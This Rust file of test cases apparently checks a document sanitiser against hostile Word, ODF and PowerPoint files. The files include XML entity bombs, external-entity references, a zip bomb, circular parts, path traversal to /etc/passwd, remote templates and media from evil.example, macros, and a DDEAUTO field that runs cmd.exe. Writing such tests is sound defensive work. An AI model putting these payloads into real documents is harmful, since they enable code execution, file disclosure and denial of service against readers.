//! Documents and presentations: bombs and cycles in their XML and between their parts, and what acts or fetches by itself.

use super::build::{docx, docx_of, laughs, nested, odf, outside, paragraph, pptx, zip};
use super::{Case, cut, found, harmless, refused};

pub const CASES: &[Case] = &[
    harmless("billion-laughs.docx", || {
        docx_of(&format!("{}<w:document><w:body>{}</w:body></w:document>", laughs(), paragraph("&l9;")), &[], "")
    }),
    harmless("external-entity.docx", || {
        docx_of(&format!("{}<w:document><w:body>{}</w:body></w:document>", outside(), paragraph("&x;")), &[], "")
    }),
    cut("deep.docx", "nested deeper", || docx(&nested("<w:p><w:r>", "", "</w:r></w:p>", 100_000), &[], "")),
    cut("tables-in-tables.docx", "nested deeper", || {
        docx(&nested("<w:tbl><w:tr><w:tc>", &paragraph("in"), "</w:tc></w:tr></w:tbl>", 5_000), &[], "")
    }),
    harmless("a-million-attributes.docx", || {
        let attributes: String = (0..1_000_000).map(|n| format!(" a{n}=\"\"")).collect();
        docx(&format!("<w:p{attributes}><w:r><w:t>text</w:t></w:r></w:p>"), &[], "")
    }),
    cut("one-long-text.docx", "over the limit of 2000000 characters", || {
        // Other words each time, so that no ratio tells.
        let text: String = (0..1_500_000u64).map(|n| format!("{:x} ", n.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 24)).collect();
        docx(&paragraph(&text), &[], "")
    }),
    refused("ratio.docx", "as in a zip bomb", || docx(&paragraph(&" ".repeat(64 << 20)), &[], "")),
    cut("million-of-elements.docx", "over the limit of", || {
        let mut state = 1u64;
        let mut paragraphs = String::new();
        for _ in 0..400_000 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            paragraphs.push_str(&format!("<w:p><w:r><w:t>{:x}</w:t></w:r></w:p>", state >> 8));
        }
        docx(&paragraphs, &[], "")
    })
    .within(768),
    harmless("undeclared-names.docx", || {
        docx_of("<x:document><y:body><z:p><q:r><t>text</t></q:r></z:p></y:body></x:document>", &[], "")
    }),
    harmless("styles-in-a-circle.docx", || {
        let styles = r#"<w:styles><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>"#;
        let body = r#"<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>text</w:t></w:r></w:p>"#;
        docx(body, &[("word/styles.xml", styles)], r#"<Relationship Id="st" Type="x/styles" Target="styles.xml"/>"#)
    }),
    harmless("numbering-in-a-circle.docx", || {
        let list = r#"<w:numbering><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%1%1%1%1%1%1%1%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>"#;
        let item = r#"<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>"#;
        docx(
            &item.repeat(300),
            &[("word/numbering.xml", list)],
            r#"<Relationship Id="nu" Type="x/numbering" Target="numbering.xml"/>"#,
        )
    }),
    harmless("header-that-holds-itself.docx", || {
        let body = format!(
            r#"{}<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>"#,
            paragraph("text")
        );
        let header = r#"<w:hdr><w:p><w:r><w:t>head</w:t></w:r></w:p><w:altChunk r:id="h"/></w:hdr>"#;
        let to = r#"<Relationship Id="h" Type="x/header" Target="header1.xml"/>"#;
        let own = format!("<Relationships>{to}</Relationships>");
        docx(&body, &[("word/header1.xml", header), ("word/_rels/header1.xml.rels", &own)], to)
    }),
    harmless("document-that-holds-itself.docx", || {
        docx(
            &format!(r#"{}<w:altChunk r:id="me"/>"#, paragraph("text")),
            &[],
            r#"<Relationship Id="me" Type="x/aFChunk" Target="document.xml"/>"#,
        )
    }),
    harmless("comments-in-a-circle.docx", || {
        let comments: String = (0..2_000)
            .map(|n| format!(r#"<w:comment w:id="{n}"><w:p w14:paraId="{n}"><w:r><w:t>c</w:t></w:r></w:p></w:comment>"#))
            .collect();
        let threads: String = (0..2_000)
            .map(|n| format!(r#"<w15:commentEx w15:paraId="{n}" w15:paraIdParent="{}"/>"#, (n + 1) % 2_000))
            .collect();
        docx(
            &paragraph("text"),
            &[
                ("word/comments.xml", &format!("<w:comments>{comments}</w:comments>")),
                ("word/commentsExtended.xml", &format!("<w15:commentsEx>{threads}</w15:commentsEx>")),
            ],
            r#"<Relationship Id="c" Type="x/comments" Target="comments.xml"/><Relationship Id="e" Type="x/commentsExtended" Target="commentsExtended.xml"/>"#,
        )
    }),
    harmless("fields-that-never-end.docx", || {
        docx(&r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText></w:r></w:p>"#.repeat(50_000), &[], "")
    }),
    cut("formula-of-thousands.docx", "nested deeper", || {
        docx(&format!("<w:p><m:oMath>{}</m:oMath></w:p>", nested("<m:f><m:num>", "<m:r><m:t>1</m:t></m:r>", "</m:num></m:f>", 3_000)), &[], "")
    }),
    found("macros.docm", &["macro"], || {
        docx(
            &paragraph("text"),
            &[("word/vbaProject.bin", "Attribute VB_Name")],
            r#"<Relationship Id="v" Type="x/vbaProject" Target="vbaProject.bin"/>"#,
        )
    }),
    found("macros-nobody-refers-to.docx", &["macro"], || {
        docx(&paragraph("text"), &[("customXml/vbaProject.bin", "Attribute VB_Name")], "")
    }),
    found("controls.docx", &["active_content"], || {
        docx(&paragraph("text"), &[("word/activeX/activeX1.xml", "<ax:ocx/>")], "")
    }),
    found("template-from-elsewhere.docx", &["external_links"], || {
        let link = r#"<Relationships><Relationship Id="t" Type="x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>"#;
        docx(&paragraph("text"), &[("word/_rels/settings.xml.rels", link)], "")
    }),
    found("picture-from-elsewhere.docx", &["external_links"], || {
        docx(
            r#"<w:p><w:r><w:drawing><a:blip r:link="i"/></w:drawing><w:t>text</w:t></w:r></w:p>"#,
            &[],
            r#"<Relationship Id="i" Type="x/image" TargetMode="External" Target="file://evil.example/share/i.png"/>"#,
        )
    }),
    found("asks-another-program.docx", &["external_fields"], || {
        docx(
            r#"<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"><w:r><w:t>text</w:t></w:r></w:fldSimple></w:p>"#,
            &[],
            "",
        )
    }),
    found("page-in-a-document.docx", &["active_content"], || {
        docx(
            &format!(r#"{}<w:altChunk r:id="p"/>"#, paragraph("text")),
            &[("word/page.html", "<html><body><p>in</p><script>alert(1)</script></body></html>")],
            r#"<Relationship Id="p" Type="x/aFChunk" Target="page.html"/>"#,
        )
    }),
    refused("no-body.docx", "no body", || docx_of("<w:document/>", &[], "")),
    refused("no-xml.docx", "no body", || docx_of("\u{1}\u{2}\u{3}", &[], "")),
    harmless("parts-that-climb.docx", || {
        docx(
            r#"<w:p><w:r><w:drawing><a:blip r:embed="i"/></w:drawing><w:t>text</w:t></w:r></w:p>"#,
            &[],
            r#"<Relationship Id="i" Type="x/image" Target="../../../../etc/passwd"/>"#,
        )
    }),
    harmless("billion-laughs.odt", || odf(&laughs(), "<office:text><text:p>&l9;</text:p></office:text>", &[])),
    harmless("external-entity.odt", || odf(&outside(), "<office:text><text:p>&x;</text:p></office:text>", &[])),
    cut("deep.odt", "nested deeper", || {
        odf("", &format!("<office:text>{}</office:text>", nested("<text:section>", "<text:p>in</text:p>", "</text:section>", 100_000)), &[])
    }),
    harmless("a-billion-blanks.odt", || {
        odf("", &format!("<office:text><text:p>a{}b</text:p></office:text>", r#"<text:s text:c="4000000000"/>"#.repeat(10_000)), &[])
    }),
    found("parts-from-elsewhere.odt", &["external_links"], || {
        odf("", r#"<office:text><text:p>a<draw:frame><draw:image xlink:href="http://evil.example/i.png"/></draw:frame></text:p><text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section></office:text>"#, &[])
    }),
    found("macros.odt", &["macro"], || {
        odf("", "<office:text><text:p>text</text:p></office:text>", &[("Basic/Standard/Module1.xml", "<script:module/>")])
    }),
    found("macros-by-event.odt", &["macro"], || {
        odf("", r#"<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts><office:text><text:p>text</text:p></office:text>"#, &[])
    }),
    harmless("billion-laughs.pptx", || pptx_with(&laughs(), "&l9;")),
    cut("deep.pptx", "nested deeper", || pptx(&nested("<p:grpSp>", "", "</p:grpSp>", 50_000), &[], "")),
    harmless("layouts-in-a-circle.pptx", || {
        let to = r#"<Relationships><Relationship Id="l" Type="x/slideLayout" Target="../slideLayouts/slideLayout1.xml"/><Relationship Id="m" Type="x/slideMaster" Target="../slideLayouts/slideLayout1.xml"/></Relationships>"#;
        pptx(
            &shape("text"),
            &[
                ("ppt/slideLayouts/slideLayout1.xml", "<p:sldLayout><p:cSld><p:spTree/></p:cSld></p:sldLayout>"),
                ("ppt/slideLayouts/_rels/slideLayout1.xml.rels", to),
            ],
            r#"<Relationship Id="l" Type="x/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>"#,
        )
    }),
    harmless("notes-that-are-their-slide.pptx", || {
        pptx(&shape("text"), &[], r#"<Relationship Id="n" Type="x/notesSlide" Target="slide1.xml"/>"#)
    }),
    cut("five-thousand-slides.pptx", "over the limit of 2000", five_thousand_slides).long(),
    found("film-from-elsewhere.pptx", &["external_links"], || {
        pptx(
            &shape("text"),
            &[],
            r#"<Relationship Id="v" Type="x/video" TargetMode="External" Target="http://evil.example/v.mp4"/>"#,
        )
    }),
    found("macros.pptm", &["macro"], || pptx(&shape("text"), &[("ppt/vbaProject.bin", "Attribute")], "")),
    harmless("a-table-of-a-million-cells.pptx", || {
        let row = format!("<a:tr>{}</a:tr>", "<a:tc><a:txBody><a:p/></a:txBody></a:tc>".repeat(1_000));
        pptx(&format!("<p:graphicFrame><a:graphic><a:graphicData><a:tbl>{}</a:tbl></a:graphicData></a:graphic></p:graphicFrame>", row.repeat(600)), &[], "")
    })
    .within(768),
];

fn shape(text: &str) -> String {
    format!("<p:sp><p:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>")
}

fn pptx_with(declarations: &str, text: &str) -> Vec<u8> {
    let slide =
        format!(r#"{declarations}<p:sld xmlns:p="p"><p:cSld><p:spTree>{}</p:spTree></p:cSld></p:sld>"#, shape(text));
    zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("ppt/presentation.xml", br#"<p:presentation><p:sldIdLst><p:sldId r:id="s"/></p:sldIdLst></p:presentation>"#),
        (
            "ppt/_rels/presentation.xml.rels",
            br#"<Relationships><Relationship Id="s" Type="x/slide" Target="slides/slide1.xml"/></Relationships>"#,
        ),
        ("ppt/slides/slide1.xml", slide.as_bytes()),
    ])
}

/// All of them the same part.
fn five_thousand_slides() -> Vec<u8> {
    let list: String = (0..5_000).map(|n| format!(r#"<p:sldId id="{n}" r:id="s{n}"/>"#)).collect();
    let relations: String =
        (0..5_000).map(|n| format!(r#"<Relationship Id="s{n}" Type="x/slide" Target="slides/slide1.xml"/>"#)).collect();
    let slide = format!("<p:sld><p:cSld><p:spTree>{}</p:spTree></p:cSld></p:sld>", shape("text"));
    zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "ppt/presentation.xml",
            format!("<p:presentation><p:sldIdLst>{list}</p:sldIdLst></p:presentation>").as_bytes(),
        ),
        ("ppt/_rels/presentation.xml.rels", format!("<Relationships>{relations}</Relationships>").as_bytes()),
        ("ppt/slides/slide1.xml", slide.as_bytes()),
    ])
}
